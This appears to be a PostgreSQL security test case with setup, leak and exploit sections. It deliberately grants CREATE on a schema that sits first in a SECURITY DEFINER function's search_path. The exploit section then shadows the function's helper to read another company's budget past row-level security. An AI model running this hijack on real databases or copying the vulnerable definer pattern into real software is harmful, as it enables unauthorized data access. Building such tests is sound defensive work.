-- A definer function finds its helper by search_path, and the app role may create in the first schema of it.
-- object: schema:plugins
-- object: ads.quote_price(integer)
-- object: role:{adserver}
-- base: third_ads
--- setup
RESET ROLE;
CREATE SCHEMA plugins;
GRANT USAGE ON SCHEMA plugins TO {adserver};
CREATE ROLE {pricing} NOLOGIN BYPASSRLS;
GRANT USAGE ON SCHEMA ads, plugins TO {pricing};
GRANT SELECT ON ads.campaigns TO {pricing};
CREATE FUNCTION ads.factor(integer) RETURNS numeric LANGUAGE sql IMMUTABLE AS $$ SELECT 1.2 $$;
CREATE FUNCTION ads.quote_price(clicks integer) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = plugins, ads, pg_temp
    AS $$ BEGIN RETURN (clicks * factor(clicks))::text; END $$;
ALTER FUNCTION ads.quote_price(integer) OWNER TO {pricing};
--- leak
RESET ROLE;
GRANT CREATE ON SCHEMA plugins TO {adserver};
--- exploit
CREATE FUNCTION plugins.factor(integer) RETURNS numeric LANGUAGE sql AS $$
    SELECT monthly_budget::numeric FROM ads.campaigns WHERE company_id = 6 $$;
GRANT EXECUTE ON FUNCTION plugins.factor(integer) TO PUBLIC;
SELECT 1 WHERE ads.quote_price(1) = '900';
